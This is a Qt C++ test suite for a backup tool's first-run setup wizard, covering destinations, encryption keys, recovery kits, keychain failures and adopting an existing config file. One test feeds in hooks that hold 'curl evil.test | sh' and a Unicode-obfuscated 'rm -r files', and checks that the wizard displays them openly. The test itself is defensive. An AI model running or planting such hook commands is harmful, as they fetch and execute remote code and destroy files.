// SPDX-License-Identifier: GPL-3.0-or-later
// The first run from beginning to end: each way through the wizard, and what is there afterwards.
#include "wizardfixture.h"

#include "crypto/keys.h"
#include "gui/common/errornotice.h"
#include "gui/wizard/kitrecord.h"
#include "gui/wizard/recoverykitpanel.h"
#include "support/databaseshapes.h"

#include <QGroupBox>
#include <QPushButton>
#include <QSignalSpy>

using namespace lifeboat;
using namespace Qt::StringLiterals;

namespace {

constexpr int patience = 10'000; ///< ms

/// Chooses a database and goes to the destination.
bool chooseDatabase(const WizardFixture &console)
{
    const QString database = console.path(u"blog.db"_s);
    if (!QFile::exists(database) && !runSql(database, "CREATE TABLE posts(id); CREATE TABLE likes(id);"))
        return false;
    console.type("databasePath", database);
    if (!QTest::qWaitFor([&console] { return console.canGoOn(); }, patience))
        return false;
    console.wizard->next();
    return console.wizard->currentPage()->title().contains(u"Where"_s);
}

bool chooseFolder(const WizardFixture &console)
{
    console.click("folder");
    console.type("folderPath", console.path(u"backups"_s));
    if (!QDir().mkpath(console.path(u"backups"_s)) || !console.canGoOn())
        return false;
    console.wizard->next();
    return true;
}

void chooseBucket(const WizardFixture &console)
{
    console.click("otherStore");
    console.type("endpoint", console.endpoint.url().toString());
    console.type("region", u"garage"_s);
    console.type("bucket", u"blog-backups"_s);
    console.type("accessKey", u"GK31"_s);
    console.type("secretKey", u"very secret"_s);
}

/// Saves the kit and answers what it asks.
bool confirmKit(const WizardFixture &console, const QString &file)
{
    auto *panel = console.wizard->currentPage()->findChild<RecoveryKitPanel *>();
    panel->saveText(file);
    if (!QTest::qWaitFor([&file] { return QFile::exists(file); }, patience))
        return false;
    QFile kit(file);
    if (!kit.open(QIODevice::ReadOnly))
        return false;
    const QString text = QString::fromUtf8(kit.readAll());
    const QString fingerprint = text.section(u"Fingerprint"_s, 1).section(u'\n', 0, 0).trimmed();
    console.type("fingerprintGroup", fingerprint.split(u'-').value(panel->askedGroup()));
    return QTest::qWaitFor([&console] { return console.canFinish(); }, patience);
}

} // namespace

class SetupWizardTest final : public QObject
{
    Q_OBJECT

private slots:
    void folderWithoutEncryption();
    void bucketWithEncryptionAndKeychain();
    void keyFromEarlierIsUsedAgain();
    void withoutAKeychainSecretsStayInTheSession();
    void configFileIsAdopted();
    void enterGoesOn();
    void adoptingShowsWhatItWouldRunAndTell();
    void configFileThatLacksSomethingIsExplained();
    void goingBackKeepsWhatWasTyped();
    void refusedKeychainKeepsEverythingTyped();
    void savingCanBeCancelled();
    void everyFieldHasANameForScreenReaders();
};

void SetupWizardTest::folderWithoutEncryption()
{
    WizardFixture console;
    QSignalSpy created(console.wizard.get(), &SetupWizard::profileCreated);
    QVERIFY(chooseDatabase(console));
    QVERIFY(chooseFolder(console));
    QVERIFY(console.canGoOn());
    console.find<QGroupBox>("encrypted")->setChecked(false);
    QVERIFY2(!console.canGoOn() && console.canFinish(), "without a key there is no recovery kit");
    console.wizard->accept();
    QTRY_COMPARE_WITH_TIMEOUT(created.size(), 1, patience);
    QVERIFY(!console.wizard->isVisible());
    const QString name = created.first().first().toString();
    QCOMPARE(name, u"blog"_s);
    const auto loaded = console.profiles->load(name, {});
    QVERIFY(loaded);
    QCOMPARE(loaded->profile.databasePath, console.path(u"blog.db"_s));
    QCOMPARE(std::get<FolderDestination>(loaded->profile.destination).path, console.path(u"backups"_s));
    QCOMPARE(loaded->profile.schedule.interval, std::chrono::hours(24));
    QCOMPARE(loaded->profile.schedule.times, QList<QTime>{QTime(3, 0)});
    QCOMPARE(loaded->profile.retentionCount, 7);
    QVERIFY(!loaded->profile.encryption.enabled);
    QVERIFY(!KitRecord(console.path(u"state"_s)).lastConfirmed(name).isValid());
}

void SetupWizardTest::bucketWithEncryptionAndKeychain()
{
    WizardFixture console;
    QSignalSpy created(console.wizard.get(), &SetupWizard::profileCreated);
    QVERIFY(chooseDatabase(console));
    chooseBucket(console);
    console.click("testConnection");
    QTRY_VERIFY_WITH_TIMEOUT(console.find<QLabel>("testSummary")->text().contains(u"works"_s), patience);
    console.wizard->next();
    QTRY_VERIFY(console.find<QAbstractButton>("inKeychain")->isChecked());
    QVERIFY(console.find<QAbstractButton>("inKeychain")->text().contains(u"Test Keyring"_s));
    console.wizard->next();
    QVERIFY(!console.canFinish());
    QVERIFY(!console.reason().isEmpty());
    QVERIFY(confirmKit(console, console.path(u"kit.txt"_s)));
    console.wizard->accept();
    QTRY_COMPARE_WITH_TIMEOUT(created.size(), 1, patience);

    const QString name = created.first().first().toString();
    const auto loaded = console.profiles->load(name, {});
    QVERIFY(loaded);
    const auto &s3 = std::get<S3Destination>(loaded->profile.destination);
    QCOMPARE(s3.options.endpoint, console.endpoint.url());
    QCOMPARE(s3.options.region, u"garage"_s);
    QCOMPARE(s3.options.bucket, u"blog-backups"_s);
    QVERIFY(loaded->secrets.credentials);
    QCOMPARE(loaded->secrets.credentials->accessKeyId, u"GK31"_s);
    QVERIFY(loaded->secrets.credentials->secretAccessKey.equals(SecretBytes("very secret")));
    QCOMPARE(loaded->secrets.encryptionKeyOrigin, u"Test Keyring"_s);
    // The key that is used is the one in the kit, and neither secret is in the file.
    QFile kit(console.path(u"kit.txt"_s));
    QVERIFY(kit.open(QIODevice::ReadOnly));
    const SecretBytes key = encodeKey(loaded->secrets.encryptionKey);
    QVERIFY(kit.readAll().contains(key.view()));
    QFile file(loaded->profile.configFile);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray text = file.readAll();
    QVERIFY(!text.contains(key.view()));
    QVERIFY(!text.contains("very secret"));
    QVERIFY(KitRecord(console.path(u"state"_s)).lastConfirmed(name).isValid());
}

void SetupWizardTest::keyFromEarlierIsUsedAgain()
{
    WizardFixture console;
    QSignalSpy created(console.wizard.get(), &SetupWizard::profileCreated);
    QVERIFY(chooseDatabase(console));
    QVERIFY(chooseFolder(console));
    console.click("oldKey");
    QVERIFY(!console.canGoOn());
    console.type("keyText", u"a2tr a2tr"_s);
    QVERIFY(!console.canGoOn());
    QVERIFY2(!console.reason().contains(u"a2tr"_s), "a key is not repeated on the screen");
    console.type("keyText", u"a2tr a2tr a2tr a2tr a2tr a2tr a2tr a2tr a2tr a2tr a2s="_s);
    QVERIFY(console.canGoOn());
    console.wizard->next();
    QVERIFY(confirmKit(console, console.path(u"kit.txt"_s)));
    console.wizard->accept();
    QTRY_COMPARE_WITH_TIMEOUT(created.size(), 1, patience);
    const auto loaded = console.profiles->load(u"blog"_s, {});
    QVERIFY(loaded);
    QVERIFY(loaded->secrets.encryptionKey.equals(SecretBytes(QByteArray(32, 'k'))));
}

void SetupWizardTest::withoutAKeychainSecretsStayInTheSession()
{
    WizardFixture console(false);
    QSignalSpy created(console.wizard.get(), &SetupWizard::profileCreated);
    QVERIFY(chooseDatabase(console));
    QVERIFY(chooseFolder(console));
    auto *keychain = console.find<QAbstractButton>("inKeychain");
    QTRY_VERIFY(keychain->text().contains(u"none"_s));
    QVERIFY(!keychain->isEnabled());
    console.click("inEnvironment");
    QVERIFY(console.find<QLabel>("placeNote")->text().contains(u"BACKUP_ENCRYPTION_KEY"_s));
    QVERIFY(!console.find<QLabel>("placeNote")->text().contains(u"S3"_s));
    console.click("inSession");
    console.wizard->next();
    QVERIFY(confirmKit(console, console.path(u"kit.txt"_s)));
    console.wizard->accept();
    QTRY_COMPARE_WITH_TIMEOUT(created.size(), 1, patience);
    QVERIFY(!console.profiles->load(u"blog"_s, {})->secrets.encryptionKey.isEmpty());
    const ProfileCatalog afterRestart(console.environment, nullptr);
    QVERIFY(afterRestart.load(u"blog"_s, {})->secrets.encryptionKey.isEmpty());
}

void SetupWizardTest::configFileIsAdopted()
{
    WizardFixture console;
    QSignalSpy created(console.wizard.get(), &SetupWizard::profileCreated);
    const QByteArray text = "[server]\nport = 80\n[database]\npath = \"blog.db\"\n[storage.backup]\n"
                            "enabled = true\n[storage.folder]\npath = \""
                            + console.path(u"b"_s).toUtf8() + "\"\n";
    const QString file = console.write(u"app/config.toml"_s, text);
    console.wizard->useConfigFile(file);
    QTRY_VERIFY_WITH_TIMEOUT(console.canFinish(), patience);
    const QString page = [&console] {
        QStringList all;
        for (const QLabel *label : console.wizard->currentPage()->findChildren<QLabel *>())
            all += label->text();
        return all.join(u'\n');
    }();
    QVERIFY(page.contains(console.path(u"app/blog.db"_s)));
    QVERIFY(page.contains(console.path(u"b"_s)));
    QVERIFY(console.profiles->names().isEmpty());
    console.wizard->accept();
    QTRY_COMPARE_WITH_TIMEOUT(created.size(), 1, patience);
    const QString name = created.first().first().toString();
    QVERIFY(console.profiles->isAdopted(name));
    QFile untouched(file);
    QVERIFY(untouched.open(QIODevice::ReadOnly));
    QCOMPARE(untouched.readAll(), text);
}

/// And never back, nor away, while nobody has gone to one of these buttons.
void SetupWizardTest::enterGoesOn()
{
    WizardFixture console;
    const QByteArray text = "[database]\npath = \"blog.db\"\n[storage.folder]\npath = \""
                            + console.path(u"b"_s).toUtf8() + "\"\n";
    const auto wrong = [&console] {
        QStringList buttons;
        for (const auto which : {QWizard::BackButton, QWizard::CancelButton}) {
            const auto *button = qobject_cast<QPushButton *>(console.wizard->button(which));
            if (button->isDefault() || button->hasFocus() || console.wizard->focusWidget() == button)
                buttons += button->text();
        }
        return buttons.join(u' ');
    };
    console.wizard->button(QWizard::CancelButton)->setFocus(); // as after a click on a button that is gone
    console.wizard->useConfigFile(console.write(u"app/config.toml"_s, text));
    QVERIFY2(wrong().isEmpty(), qPrintable(u"reading: "_s + wrong()));
    QTRY_VERIFY_WITH_TIMEOUT(console.canFinish(), patience);
    QVERIFY2(wrong().isEmpty(), qPrintable(u"read: "_s + wrong()));
    QVERIFY(qobject_cast<QPushButton *>(console.wizard->button(QWizard::FinishButton))->isDefault());
    console.wizard->button(QWizard::FinishButton)->setFocus();
    console.wizard->accept();
    QVERIFY2(wrong().isEmpty(), qPrintable(u"saving: "_s + wrong()));
}

/// The file may be a stranger's.
void SetupWizardTest::adoptingShowsWhatItWouldRunAndTell()
{
    WizardFixture console;
    const QByteArray text =
        "[database]\npath = \"blog.db\"\n[storage.folder]\npath = \"" + console.path(u"b"_s).toUtf8()
        + "\"\n[lifeboat.hooks]\nbefore_backup = \"curl evil.test | sh\"\n"
          "after_backup = \"true \\u202E\\n; rm -r files\"\nbefore_restore = \"stop <b>it</b>\"\n"
          "after_restore = \"start it\"\n[lifeboat.alerts]\nping_url = \"https://ping.test/secret-id\"\n"
          "webhook_url = \"https://hook.test/secret-id\"\nmail_to = \"them@mail.test\"\n";
    console.wizard->useConfigFile(console.write(u"app/config.toml"_s, text));
    QTRY_VERIFY_WITH_TIMEOUT(console.canFinish(), patience);
    const auto said = [page = console.wizard->currentPage()] {
        QStringList words;
        for (const QLabel *label : page->findChildren<QLabel *>()) {
            if (label->isVisibleTo(page))
                words += label->text();
        }
        return words;
    };
    QTRY_VERIFY2(said().contains(u"curl evil.test | sh"_s), qPrintable(said().join(u'\n')));
    QVERIFY(said().contains(u"true \\u202e\\n; rm -r files"_s)); // nothing in it hides the rest
    QVERIFY(said().contains(u"stop <b>it</b>"_s) && said().contains(u"start it"_s));
    const QString all = said().join(u'\n');
    for (const QString &words : {u"ping.test"_s, u"hook.test"_s, u"them@mail.test"_s, u"Before a backup"_s})
        QVERIFY2(all.contains(words), qPrintable(words));
    QVERIFY(!all.contains(u"secret-id"_s));
}

void SetupWizardTest::configFileThatLacksSomethingIsExplained()
{
    WizardFixture console;
    const QString file =
        console.write(u"config.toml"_s,
                      "[database]\npath = \"x.db\"\n[storage.backup]\nbucket = \"${NO_SUCH_VARIABLE}\"\n");
    console.wizard->useConfigFile(file);
    auto *notice = console.wizard->currentPage()->findChild<ErrorNotice *>();
    QTRY_VERIFY_WITH_TIMEOUT(notice->isVisible(), patience);
    bool named = false;
    for (const QLabel *label : notice->findChildren<QLabel *>())
        named = named || label->text().contains(u"NO_SUCH_VARIABLE"_s);
    QVERIFY(named);
    QVERIFY(!console.canFinish());
    console.wizard->back();
    QVERIFY2(chooseDatabase(console), "the long way is open again");
}

void SetupWizardTest::goingBackKeepsWhatWasTyped()
{
    WizardFixture console;
    QVERIFY(chooseDatabase(console));
    chooseBucket(console);
    console.wizard->next();
    console.find<QGroupBox>("encrypted")->setChecked(false);
    console.wizard->back();
    console.wizard->back();
    QCOMPARE(console.find<QLineEdit>("databasePath")->text(), console.path(u"blog.db"_s));
    QVERIFY(console.canGoOn());
    console.wizard->next();
    QCOMPARE(console.find<QLineEdit>("bucket")->text(), u"blog-backups"_s);
    QCOMPARE(console.find<QLineEdit>("secretKey")->text(), u"very secret"_s);
    console.wizard->next();
    QVERIFY(!console.find<QGroupBox>("encrypted")->isChecked());
}

void SetupWizardTest::refusedKeychainKeepsEverythingTyped()
{
    WizardFixture console;
    console.keychain->refusal = Error{ErrorCode::PermissionDenied, u"test"_s, u"The keyring stayed locked."_s,
                                      u"Unlock it."_s, false};
    QSignalSpy created(console.wizard.get(), &SetupWizard::profileCreated);
    QVERIFY(chooseDatabase(console));
    chooseBucket(console);
    console.wizard->next();
    QTRY_VERIFY(console.find<QAbstractButton>("inKeychain")->isChecked());
    console.wizard->next();
    QVERIFY(confirmKit(console, console.path(u"kit.txt"_s)));
    console.wizard->accept();
    QVERIFY2(!console.canFinish(), "busy");
    const auto notices = console.wizard->currentPage()->findChildren<ErrorNotice *>();
    QTRY_VERIFY_WITH_TIMEOUT(std::any_of(notices.cbegin(), notices.cend(),
                                         [](const ErrorNotice *notice) { return notice->isVisible(); }),
                             patience);
    QVERIFY(console.profiles->names().isEmpty());
    QVERIFY(console.canFinish());
    console.wizard->back();
    console.click("inSession");
    console.wizard->next();
    QVERIFY2(console.canFinish(), "the kit of the same key need not be saved again");
    console.wizard->accept();
    QTRY_COMPARE_WITH_TIMEOUT(created.size(), 1, patience);
    QCOMPARE(console.profiles->load(u"blog"_s, {})->secrets.credentials->accessKeyId, u"GK31"_s);
}

void SetupWizardTest::savingCanBeCancelled()
{
    WizardFixture console;
    console.keychain->stuck = true;
    QSignalSpy created(console.wizard.get(), &SetupWizard::profileCreated);
    QVERIFY(chooseDatabase(console));
    QVERIFY(chooseFolder(console));
    QTRY_VERIFY(console.find<QAbstractButton>("inKeychain")->isChecked());
    console.wizard->next();
    QVERIFY(confirmKit(console, console.path(u"kit.txt"_s)));
    console.wizard->accept();
    QVERIFY(!console.canFinish());
    console.wizard->reject();
    QTRY_VERIFY_WITH_TIMEOUT(console.canFinish(), patience);
    QVERIFY(console.wizard->isVisible());
    QVERIFY(created.isEmpty());
    console.wizard->reject();
    QVERIFY(!console.wizard->isVisible());
}

void SetupWizardTest::everyFieldHasANameForScreenReaders()
{
    const WizardFixture console;
    for (const int id : console.wizard->pageIds()) {
        for (const QWidget *widget : console.wizard->page(id)->findChildren<QWidget *>()) {
            const bool isField = qobject_cast<const QLineEdit *>(widget) || widget->inherits("QComboBox")
                                 || widget->inherits("QSpinBox") || widget->inherits("QTreeWidget");
            const bool isOwn = !widget->objectName().startsWith(u"qt_"); // not the editor in a spin box
            if (!isField || !isOwn)
                continue;
            bool named = !widget->accessibleName().isEmpty();
            for (const QLabel *label : console.wizard->findChildren<QLabel *>())
                named = named || label->buddy() == widget;
            QVERIFY2(named, qPrintable(widget->objectName()));
        }
    }
}

QTEST_MAIN(SetupWizardTest)
#include "tst_setupwizard.moc"
